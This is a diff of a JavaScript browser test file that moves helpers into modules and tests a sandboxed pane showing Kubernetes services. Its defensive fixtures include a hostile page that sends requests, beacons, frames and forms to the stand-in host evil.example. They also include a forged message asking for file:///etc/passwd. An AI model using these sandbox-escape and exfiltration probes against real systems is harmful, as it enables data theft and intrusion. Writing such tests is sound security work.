@@ -7,58 +7,16 @@ import { once } from "node:events";
 import net from "node:net";
 import { test } from "node:test";
 import { violations } from "./axe.mjs";
-import { DESKTOP, launch, open, PHONE, ready, screenshot, sh } from "./browser.mjs";
+import { launch, open, PHONE, ready, screenshot, sh, SIZES } from "./browser.mjs";
+import { go, serve, shown, status } from "./pane.mjs";
+import { HOSTILE, SHOP } from "./pane-pages.mjs";
+import { postsAndSockets } from "./pane-posts.mjs";
+import { storeys } from "./pane-storeys.mjs";
 import { over } from "./visits.mjs";
 
 const site = over("out/site");
 
-/** What the frame in front shows. */
-const shown = (page) => page.frameLocator("tn-browser iframe:not([data-next])");
-const status = (page) => page.locator("tn-browser .status");
-
-/** Opens a Service's page. */
-async function go(page, name, { resource = "services", at = "" } = {}) {
-  const to = `#/browser/${resource}/default/${name}${at ? `?at=${encodeURIComponent(at)}` : ""}`;
-  await page.evaluate((hash) => (location.hash = hash), to);
-}
-
-/** A page of a pod's: nginx with files of a ConfigMap. */
-async function serve(page, name, files) {
-  const data = Object.fromEntries(Object.entries(files));
-  const objects = [
-    { apiVersion: "v1", kind: "ConfigMap", metadata: { name }, data },
-    {
-      apiVersion: "v1",
-      kind: "Pod",
-      metadata: { name, labels: { app: name } },
-      spec: {
-        containers: [
-          {
-            name: "web",
-            image: "nginx",
-            ports: [{ containerPort: 80 }],
-            volumeMounts: [{ name: "files", mountPath: "/usr/share/nginx/html" }],
-          },
-        ],
-        volumes: [{ name: "files", configMap: { name } }],
-      },
-    },
-    {
-      apiVersion: "v1",
-      kind: "Service",
-      metadata: { name },
-      spec: { selector: { app: name }, ports: [{ port: 80 }] },
-    },
-  ];
-  const list = JSON.stringify({ apiVersion: "v1", kind: "List", items: objects });
-  await sh(page, `kubectl apply -f - <<'EOF'\n${list}\nEOF`);
-  await sh(page, `kubectl wait --for=condition=Ready pod/${name} --timeout=120s`);
-}
-
-for (const [name, options] of [
-  ["desktop", DESKTOP],
-  ["phone", PHONE],
-]) {
+for (const [name, options] of Object.entries(SIZES)) {
   test(`a Service opens beside the terminal and follows a rollout, ${name}`, async (t) => {
     const page = await site.visit(t, "map", options);
     const image = "us-docker.pkg.dev/google-samples/containers/gke/hello-app";
@@ -80,6 +38,7 @@ for (const [name, options] of [
     await shown(page).getByText("Version: 2.0.0").waitFor();
     assert.deepEqual(await violations(page), []);
 
+    await storeys(page, options);
     // Nobody serves: said, with the command that looks further.
     await sh(page, "kubectl scale deployment hello --replicas=0");
     const problem = page.locator("tn-browser .problem");
@@ -92,35 +51,6 @@ for (const [name, options] of [
     assert.deepEqual(await page.evaluate(() => globalThis.violated), []);
   });
 }
-
-/** What the page is made of: a link, a form, resources of each kind, and what a script asks for. */
-const SHOP = {
-  "index.html": `<!doctype html><html><head><title>Shop</title><base href="/">
-    <link rel="stylesheet" href="site.css"><script src="/app.js"></script></head>
-    <body><h1>Shop</h1><img id="logo" src="logo.svg" alt="logo"><p id="said"></p>
-    <a href="second.html?from=link#end">Second</a>
-    <form action="/second.html"><input name="q" value="a&b"><button>Search</button></form>
-    <script>document.getElementById("said").textContent = "inline after " + typeof app;</script>
-    </body></html>`,
-  "site.css": `@import "more.css"; h1 { color: rgb(1, 2, 3); background: url(logo.svg) }`,
-  "more.css": `p { color: rgb(4, 5, 6) }`,
-  "app.js": `var app = async () => {
-    const text = await (await fetch("data.json")).json();
-    const x = new XMLHttpRequest(); x.open("GET", "/data.json");
-    x.onload = () => { document.body.dataset.asked = text.hello + JSON.parse(x.responseText).hello; };
-    x.send();
-    const late = new Image(); late.onload = () => (document.body.dataset.late = late.naturalWidth);
-    late.src = "/logo.svg";
-    const script = document.createElement("script"); script.src = "late.js"; document.head.append(script);
-    localStorage.setItem("a", "b"); document.cookie = "c=d";
-    history.pushState({}, "", "/index.html?pushed");
-  };
-  addEventListener("load", app);`,
-  "late.js": `document.body.dataset.script = "ran";`,
-  "data.json": `{"hello": "world"}`,
-  "logo.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="31" height="17"><rect width="31" height="17"/></svg>`,
-  "second.html": `<!doctype html><title>Second</title><h1>The second page</h1><div style="height:3000px"></div><p id="end">The end</p>`,
-};
 
 test("styles, images, scripts, links, forms and requests of a page", async (t) => {
   const page = await site.visit(t, "map");
@@ -252,7 +182,7 @@ test("a redirect loop, too large an answer, an Ingress", async (t) => {
   );
 });
 
-test("the guestbook's form", async (t) => {
+test("the guestbook's form, forms that post, and WebSockets", async (t) => {
   const page = await site.visit(t, "map");
   const gke = "us-docker.pkg.dev/google-samples/containers/gke";
   for (const line of [
@@ -279,46 +209,8 @@ test("the guestbook's form", async (t) => {
     await page.getByRole("textbox", { name: "Address" }).inputValue(),
     /^http:\/\/10\.97\.0\.\d+\/$/,
   );
+  await postsAndSockets(page);
 });
-
-/** A page that tries what a stranger's page may try; it writes down what it got. */
-const HOSTILE = `<!doctype html><title>hostile</title><h1>hostile</h1><script>
-const got = {};
-const attempt = async (name, f) => { try { got[name] = String(await f()); } catch (e) { got[name] = "refused"; } };
-const late = (p) => Promise.race([p, new Promise((_, no) => setTimeout(no, 1500))]);
-(async () => {
-  await attempt("origin", () => self.origin);
-  await attempt("parent document", () => parent.document.title);
-  await attempt("parent storage", () => parent.localStorage.length);
-  await attempt("parent cluster", () => parent.tabernetes);
-  await attempt("top address", () => { top.location.href = "http://evil.example/top"; return "went"; });
-  await attempt("popup", () => open.call(window, "http://evil.example/popup") ?? "refused");
-  await attempt("network", () => fetch("http://evil.example/fetch"));
-  await attempt("hub", () => fetch(HOST + "/index.html"));
-  const clean = document.createElement("iframe"); document.body.append(clean);
-  const fresh = clean.contentWindow;
-  await attempt("fresh fetch", () => late(fresh.fetch("http://evil.example/fresh")));
-  await attempt("fresh fetch of the page", () => late(fresh.fetch(HOST + "/index.html")));
-  await attempt("fresh request", () => late(new Promise((yes, no) => { const x = new fresh.XMLHttpRequest(); x.onload = () => yes(x.status); x.onerror = no; x.open("GET", HOST + "/index.html"); x.send(); })));
-  await attempt("socket", () => late(new Promise((yes, no) => { const s = new fresh.WebSocket(HOST.replace("http", "ws")); s.onopen = () => yes("open"); s.onerror = no; })));
-  await attempt("beacon", () => navigator.sendBeacon("http://evil.example/beacon") ? "sent?" : "refused");
-  await attempt("storage", () => fresh.localStorage.length);
-  await attempt("database", () => late(new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = () => yes("open"); r.onerror = no; })));
-  for (const [name, html] of Object.entries({
-    "image": "<img src='http://evil.example/image.png'>",
-    "style": "<link rel=stylesheet href='http://evil.example/style.css'>",
-    "frame": "<iframe src='http://evil.example/frame'></iframe>",
-    "page in a frame": "<iframe src='" + HOST + "/index.html'></iframe>",
-    "object": "<object data='http://evil.example/object'></object>",
-    "prefetch": "<link rel=prefetch href='http://evil.example/prefetch'>",
-  })) { const d = document.createElement("div"); d.innerHTML = html; document.body.append(d); }
-  const form = document.createElement("form"); form.action = "http://evil.example/form"; document.body.append(form);
-  await attempt("form", () => { fresh.HTMLFormElement.prototype.submit.call(form); return "sent"; });
-  parent.postMessage({ type: "go", url: "http://evil.example/" }, "*");
-  parent.postMessage("tabernetes-frame", "*");
-  document.body.dataset.done = JSON.stringify(got);
-})();
-</script>`;
 
 test("a hostile page reaches neither the page, its storage, the network nor the hub", async (t) => {
   // Whoever is behind evil.example. Chromium opens a connection before it asks the policy whether a
@@ -348,7 +240,7 @@ test("a hostile page reaches neither the page, its storage, the network nor the 
     "flood.html": `<h1>flood</h1><script>setInterval(() => { for (let i = 0; i < 400; i++) history.pushState(0, "", "/" + i); }, 1);</script>`,
     "forged.html": `<h1>forged</h1><script>
       const post = MessagePort.prototype.postMessage;
-      MessagePort.prototype.postMessage = function () { post.call(this, { type: "ask", id: 1, url: "file:///etc/passwd", method: "GET / HTTP/1.1", headers: "x", redirect: "follow" }); };
+      window.MessagePort.prototype.postMessage = function () { post.call(this, { type: "ask", id: 1, url: "file:///etc/passwd", method: "GET / HTTP/1.1", headers: "x", redirect: "follow" }); };
       fetch("/index.html");</script>`,
     "again.html": `<h1>again</h1><script>addEventListener("load", () => location.reload());</script>`,
   });
